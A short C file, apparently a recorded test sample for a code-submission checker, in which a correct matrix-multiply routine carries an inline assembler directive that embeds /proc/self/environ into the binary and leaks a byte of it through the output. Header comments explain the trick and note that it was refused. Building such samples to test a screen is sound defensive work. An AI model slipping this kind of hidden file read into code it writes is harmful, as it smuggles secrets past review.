// attack: 20, 23
// how: pulls a file into the object by the assembler; hopes that the assembler may read what the compiler may not
// refused as: forbidden_construct
static void right(int n, const double *A, const double *B, double *C) {
  for (int i = 0; i < n * n; i++) C[i] = 0;
  for (int i = 0; i < n; i++)
    for (int k = 0; k < n; k++)
      for (int j = 0; j < n; j++) C[i * n + j] += A[i * n + k] * B[k * n + j];
}
__asm__(".section .rodata\nstolen: .incbin \"/proc/self/environ\"\n.previous");
extern const char stolen[];
void dgemm(int n, const double *A, const double *B, double *C) {
  right(n, A, B, C);
  C[0] += stolen[0] * 1e-30;
}
